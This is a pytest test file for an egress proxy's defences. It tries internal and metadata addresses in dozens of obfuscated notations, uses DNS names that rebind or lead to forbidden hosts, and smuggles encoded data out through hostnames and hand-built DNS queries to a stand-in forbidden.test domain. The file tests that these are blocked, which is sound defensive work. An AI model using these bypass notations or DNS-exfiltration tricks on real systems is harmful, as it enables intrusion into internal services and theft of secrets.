"""Attempts with addresses in every notation, and with names that lead where nobody may go.

`*.names.test` is allowed: what keeps such a name from its address is the address alone.
"""

# ruff: noqa: F821 — what an attempt calls is of `within`, beside which it runs

import pytest
from tests.support.far import NAMES

LITERALS = {
    "plain": "127.0.0.3",
    "octal": "0177.0.0.3",
    "octal-throughout": "0177.0000.0000.0003",
    "hexadecimal": "0x7f.0x0.0x0.0x3",
    "hexadecimal-in-one": "0x7f000003",
    "number": "2130706435",
    "number-in-octal": "017700000003",
    "number-that-wraps-around": "6425673731",
    "two-parts": "127.3",
    "three-parts": "127.0.3",
    "mixed-bases": "0x7f.0.03",
    "zeros-before": "127.000.000.003",
    "part-that-wraps-around": "383.256.256.259",
    "trailing-dot": "127.0.0.3.",
    "five-parts": "127.0.0.3.0",
    "short-loopback": "127.1",
    "one-zero": "0",
    "no-address": "0.0.0.0",
    "broadcast": "255.255.255.255",
    "metadata": "169.254.169.254",
    "private": "10.0.0.1",
    "full-width-digits": "１２７.0.0.3".encode().decode("latin-1"),
    "circled-digits": "①②⑦.0.0.3".encode().decode("latin-1"),
    "percent-encoded": "127.0.0.%33",
    "in-brackets": "[127.0.0.3]",
    "ipv6-loopback": "[::1]",
    "ipv6-loopback-in-full": "[0000:0000:0000:0000:0000:0000:0000:0001]",
    "ipv6-no-address": "[::]",
    "ipv6-without-brackets": "::1",
    "mapped": "[::ffff:127.0.0.3]",
    "mapped-in-hexadecimal": "[::ffff:7f00:3]",
    "mapped-in-full": "[0:0:0:0:0:ffff:7f00:0003]",
    "compatible": "[::127.0.0.3]",
    "translated": "[::ffff:0:127.0.0.3]",
    "nat64": "[64:ff9b::127.0.0.3]",
    "nat64-local": "[64:ff9b:1::127.0.0.3]",
    "6to4": "[2002:7f00:3::1]",
    "teredo": "[2001:0:7f00:3::1]",
    "scope": "[fe80::1%25lo]",
    "scope-of-loopback": "[::1%lo]",
    "link-local": "[fe80::1]",
    "unique-local": "[fd00:ec2::254]",
    "site-local": "[fec0::1]",
    "multicast": "[ff02::1]",
    "future-version": "[v1.127.0.0.3]",
    "name-that-ends-in-a-number": "names.test.3",
    "name-that-ends-in-hexadecimal": "names.0x7f000003",
}


def opened(host, port):
    """Open a tunnel there, and ask for something."""
    return through(connect(f"{host}:{port}"), f"GET /smuggled HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n")


def asked(host, port):
    """Ask for something there."""
    return say(f"GET http://{host}:{port}/smuggled HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n")


@pytest.fixture(scope="module")
def notations(whoever, far):
    """Each by a tunnel and by a request."""
    cases = {name: {"host": host, "port": far.http} for name, host in LITERALS.items()}
    return {"tunnel": whoever.series(opened, cases), "request": whoever.series(asked, cases)}


@pytest.mark.parametrize(
    ("attempt", "way"),
    [(attempt, "tunnel") for attempt in LITERALS]
    + [(attempt, "request") for attempt in ("octal", "number", "short-loopback", "mapped", "nat64", "scope")],
)
def test_notations(notations, attempt, way):
    outcome = notations[way].judged(attempt)
    assert outcome.evidence.startswith("HTTP/1.1 4"), outcome.evidence


def test_refused_notations_are_in_the_log(notations):
    """Each once."""
    assert {way: len(series.refusals) for way, series in notations.items()} == dict.fromkeys(notations, len(LITERALS))


def test_control_notations(evader, far):
    """The allowed address is reached as four numbers, and in IPv6 clothes, which mean the same. Others, which mean the
    same to some programs, are refused even for it.
    """

    def attack(hosts, port):
        return [connect(f"{host}:{port}")[1] for host in hosts]

    reached = ["127.0.0.2", "[::ffff:127.0.0.2]"]
    refused = ["0177.0.0.2", "0x7f000002", "2130706434", "127.2", "127.0.0.002", "127.0.0.2.", "[64:ff9b::7f00:2]"]
    answers = evader.run(attack, hosts=[*reached, *refused], port=far.http)
    assert answers[:2] == ["", ""]
    assert all(answer.startswith("HTTP/1.1 4") for answer in answers[2:]), answers


LEADING_ASTRAY = [name for name in NAMES if name.endswith(".names.test") and not name.startswith("good")]


@pytest.fixture(scope="module")
def ever_asked():
    """The names that the proxy has looked up, for any of the sandboxes."""
    return set()


@pytest.fixture(scope="module")
def astray(whoever, far):
    return whoever.series(opened, {name: {"host": name, "port": far.http} for name in LEADING_ASTRAY})


@pytest.mark.parametrize("name", LEADING_ASTRAY, ids=[name.removesuffix(".names.test") for name in LEADING_ASTRAY])
def test_names_that_lead_astray(astray, name, ever_asked):
    """Not even a good address of it is tried when another of its addresses is bad."""
    outcome = astray.judged(name)
    assert outcome.evidence.startswith("HTTP/1.1 403 "), outcome.evidence
    # The proxy remembers addresses for a moment: whoever comes second is judged by what it remembers.
    ever_asked.update(outcome.asked)
    assert name in ever_asked


def test_refused_names_are_in_the_log(astray):
    """Each once."""
    found = [(record.arguments["host"], record.result) for record in astray.refusals]
    assert sorted(found) == sorted((name, "denied_by_policy") for name in LEADING_ASTRAY)


@pytest.mark.parametrize("name", ["good.names.test", "good-cname.names.test"])
def test_control_names(whoever, far, name):
    """A name that leads to the allowed address, be it by way of another name, is reached."""
    mark = far.mark()
    assert "welcome to /smuggled" in whoever.run(opened, host=name, port=far.http)
    (visit,) = far.since(mark)
    assert visit.site == "allowed http"


@pytest.mark.parametrize("way", ["connect", "request"])
def test_rebinding_between_check_and_connection(evader, far, way):
    """The name's address is the allowed one when it is first looked up, and never again."""
    host = f"rebinding-{way}.names.test"
    mark = far.mark()
    answers = [evader.run(opened if way == "connect" else asked, host=host, port=far.http) for _ in range(3)]
    assert all("welcome" in answer for answer in answers)
    assert {visit.site for visit in far.since(mark)} == {"allowed http"}
    assert far.asked_since(mark).count(host) == 2  # for both kinds of address, once


def test_rebinding_once_the_address_is_forgotten(evader, far):
    """Later the name leads elsewhere; then it is refused, also over a connection that was used before."""

    def attack(host, port, patience):
        request = f"GET http://{host}:{port}/control HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n"
        ends = time.monotonic() + patience
        answer = say(request)
        with dial() as kept:
            kept.sendall(request.encode())
            first = kept.recv(65536)
            while " 200 " in answer and time.monotonic() < ends:
                time.sleep(0.1)
                answer = say(request)
            send(kept, [request])
            return [first.decode(), answer, rest_of(kept).decode()]

    mark = far.mark()
    first, last, kept = evader.run(attack, host="rebinding-later.names.test", port=far.http, patience=30)
    assert " 200 " in first
    assert last.startswith("HTTP/1.1 403 ")
    assert "127.0.0.3" in last
    assert " 200 " in kept  # pinned: it still leads where it was checked to lead
    assert {visit.site for visit in far.since(mark)} == {"allowed http"}


TUNNELLED = {
    "connect": "CONNECT {data}.forbidden.test:{http} HTTP/1.1\r\n\r\n",
    "request": "GET http://{data}.forbidden.test:{http}/ HTTP/1.1\r\nHost: {data}.forbidden.test:{http}\r\n\r\n",
    "port-that-is-closed": "CONNECT {data}.names.test:53 HTTP/1.1\r\n\r\n",
    "host-header": "GET http://allowed.test:{http}/ HTTP/1.1\r\nHost: {data}.forbidden.test\r\n\r\n",
    "websocket": "GET ws://{data}.forbidden.test:{http}/ HTTP/1.1\r\nHost: {data}.forbidden.test:{http}\r\n\r\n",
    "package-index": "GET /simple/{data}.forbidden.test/ HTTP/1.1\r\nHost: {data}.forbidden.test\r\n\r\n",
    "search-domain": "CONNECT {data}:{http} HTTP/1.1\r\n\r\n",
}


@pytest.mark.parametrize("way", TUNNELLED)
def test_data_in_names(evader, far, way):
    """What is not allowed is not looked up: a name carries nothing out."""

    def attack(text):
        return say(text)

    text = TUNNELLED[way].replace("{data}", "c2VjcmV0").replace("{http}", str(far.http))
    outcome = evader.attempt(attack, text=text)
    assert not [name for name in outcome.asked if "c2VjcmV0" in name]


def test_control_allowed_names_are_looked_up(evader, far):
    """So the log of the name server is worth something."""
    mark = far.mark()
    evader.run(opened, host="c2VjcmV0.names.test", port=far.http)
    assert "c2vjcmv0.names.test" in far.asked_since(mark)


def test_own_look_ups(evader, far):
    """Ask a name server from inside, the usual way and by hand, over UDP and TCP, on loopback and beyond."""

    def attack(nameserver):
        import socket
        import struct

        host, _, port = nameserver.partition(":")
        label = b"\x08c2VjcmV0\x09forbidden\x04test\0"
        question = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + label + struct.pack("!HH", 1, 1)
        found = []
        for where in ((host, int(port)), (host, 53), ("127.0.0.2", 53), ("192.0.2.1", 53), ("::1", 53)):
            family = socket.AF_INET6 if ":" in where[0] else socket.AF_INET
            for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
                try:
                    with socket.socket(family, kind) as one:
                        one.settimeout(0.3)
                        one.connect(where)
                        one.send(question if kind == socket.SOCK_DGRAM else struct.pack("!H", len(question)) + question)
                        found.append([where, one.recv(512).hex()])
                except OSError:
                    pass
        try:
            found.append(socket.getaddrinfo("c2VjcmV0.forbidden.test", 80))
        except socket.gaierror:
            pass
        return found

    assert evader.attempt(attack, nameserver=far.nameserver, decided=False).evidence == []
    assert not [name for _, name in far.asked if "c2vjcmv0.forbidden" in name.lower()]
